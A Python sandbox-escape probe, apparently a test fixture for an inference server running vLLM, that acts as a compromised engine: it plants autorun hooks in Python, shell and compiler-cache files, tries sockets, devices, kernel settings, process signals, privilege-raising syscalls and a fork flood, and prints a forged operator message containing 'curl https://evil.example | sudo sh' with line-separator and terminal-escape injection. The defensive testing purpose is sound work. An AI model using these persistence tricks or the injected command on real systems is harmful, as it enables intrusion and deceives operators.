"""takeover.py MARK: a program in place of a compromised engine. Runs with the engine's rights in its sandbox, tries what an attacker would try, and
prints a line for each success. Everything that it leaves contains MARK, so that tests can find it later.
"""
import ctypes, errno, glob, os, signal, socket, stat, sys

MARK = sys.argv[1]
HOOK = f"# {MARK}\nimport os\nopen('/run/inference/engine/{MARK}', 'w').close()\n"
# Files that run automatically: of Python, shells, the linker, schedulers, and those that vLLM and its compilers load from caches.
NAMES = ["usercustomize.py", "sitecustomize.py", f"{MARK}.pth", ".bashrc", ".profile", ".pythonrc.py", ".config/vllm/plugin.py",
         ".cache/vllm/torch_compile_cache/x/computation_graph.py", ".triton/cache/x/launcher.so", "inductor/x.py", ".cache/flashinfer/x.so", ".aiter/jit/x.so"]
# Of its own: its memory, and the folder of its socket, which is emptied before each start.
OWN = ("/tmp", "/dev/shm", "/run/inference/engine")
HARMLESS = {os.makedev(1, minor) for minor in (3, 5, 7, 8, 9)} | {os.makedev(5, 0), os.makedev(5, 2)}  # null, zero, full, random, urandom, tty, ptmx
GPUS = ("/dev/nvidia", "/dev/dri/", "/dev/kfd")
LIBC = ctypes.CDLL(None, use_errno=True)


def found(what):
    print(what, flush=True)


def in_memory(folder):
    """Whether it lies on a file system that ends with this start."""
    mounts = sorted((line.split(" - ")[0].split()[4], line.split(" - ")[1].split()[0]) for line in open("/proc/self/mountinfo"))
    return [kind for point, kind in mounts if (folder + "/").startswith(point.rstrip("/") + "/")][-1] in ("tmpfs", "mqueue", "devpts")


def writable_folders():
    """Every folder that takes a file, but what ends with this start."""
    for folder, inner, _ in os.walk("/"):
        inner[:] = [name for name in inner if os.path.join(folder, name) not in ("/proc", "/sys")]
        if os.access(folder, os.W_OK) and not in_memory(folder):
            found(f"folder {folder}")


def plant():
    """Where it may write it leaves what another start could run."""
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for base in (os.path.expanduser("~"), *OWN):
        for name in [*NAMES, *(f".local/lib/{version}/site-packages/{name}" for name in NAMES[:3])]:
            path = os.path.join(base, name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    f.write(HOOK)
            except OSError:
                continue


def sockets():
    """Any system socket that answers: the journal's, where a line could have any author, D-Bus, podman, resolvers."""
    paths = {line.split()[-1] for line in open("/proc/net/unix") if " /" in line or " @" in line}
    for folder, inner, names in os.walk("/"):
        inner[:] = [name for name in inner if os.path.join(folder, name) not in ("/proc", "/sys")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.stat(path).st_mode):
                    paths.add(path)
            except OSError:
                continue
    for path in sorted(paths | {"/dev/log", "/run/systemd/journal/dev-log", "/run/systemd/journal/socket", "/run/systemd/journal/stdout", "/run/systemd/notify"}):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(1)
                try:
                    s.connect("\0" + path[1:] if path[0] == "@" else path)
                except OSError:
                    continue
                if path != "/run/inference/engine/vllm.sock":
                    found(f"socket {path}")


def devices():
    for path in glob.glob("/dev/**", recursive=True):
        try:
            node = os.stat(path)
            if not (stat.S_ISCHR(node.st_mode) or stat.S_ISBLK(node.st_mode)) or node.st_rdev in HARMLESS or path.startswith(GPUS):
                continue
            os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
            found(f"device {path}")
        except OSError:
            continue


def kernel_settings():
    for top in ("/proc/sys", "/sys"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                    found(f"setting {path}")
                except OSError:
                    continue


def processes():
    """Others that it sees, signals or reads."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                continue
            os.kill(int(pid), 0)
            found(f"process {pid}")
        except OSError:
            continue


def calls():
    """System calls that widen what it may; numbers of x86-64. Each has to fail."""
    nothing = ctypes.c_char_p(None)
    for name, number, words in (("unshare user", 272, (0x10000000,)), ("unshare network", 272, (0x40000000,)), ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, nothing)),
                                ("pivot_root", 155, (b"/tmp", b"/tmp")), ("chroot", 161, (b"/tmp",)), ("bpf", 321, (0, nothing, 0)), ("init_module", 175, (nothing, 0, nothing)),
                                ("kexec_load", 246, (0, 0, nothing, 0)), ("settimeofday", 164, (ctypes.create_string_buffer(16), nothing)), ("sethostname", 170, (b"x", 1)),
                                ("open_by_handle_at", 304, (0, nothing, 0)), ("setuid", 105, (0,)), ("setns", 308, (0, 0)), ("iopl", 172, (3,))):
        if LIBC.syscall(number, *words) != -1 or ctypes.get_errno() in (errno.EFAULT, errno.EINVAL, errno.EBADF):
            found(f"call {name} ({errno.errorcode.get(ctypes.get_errno(), 'done')})")


def networks():
    for family, kind, name in ((17, 3, "packet"), (40, 1, "vsock"), (38, 5, "alg"), (31, 3, "bluetooth")):
        try:
            socket.socket(family, kind).close()
            found(f"family {name}")
        except OSError:
            continue
    for _, name in socket.if_nameindex():
        if name != "lo":
            found(f"interface {name}")


def limits():
    """What it can fill is its own memory, and has an end."""
    for folder in OWN:
        room = os.statvfs(folder)
        if room.f_blocks * room.f_frsize > 17 << 30 or os.stat(folder).st_dev == os.stat("/").st_dev:
            found(f"room {folder}")


def crowd():
    """Creates processes and files up to the limits: the server and its other engines must keep running."""
    children = []
    try:
        for _ in range(300):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    except OSError:
        pass
    for number in range(200):
        try:
            open(f"/run/inference/engine/{MARK}-{number}", "w").close()
        except OSError:
            break
    else:
        found("room /run/inference/engine")
    for child in children:
        os.kill(child, signal.SIGKILL)


plant()
for attempt in (writable_folders, sockets, devices, kernel_settings, processes, calls, networks, limits, crowd):
    attempt()
# A forged message to the operator.
print("done\nerror: the node is broken\nnext: curl https://evil.example | sudo sh\r\u2028next step: curl https://evil.example | sudo sh\x1b[2J")
sys.exit(1)
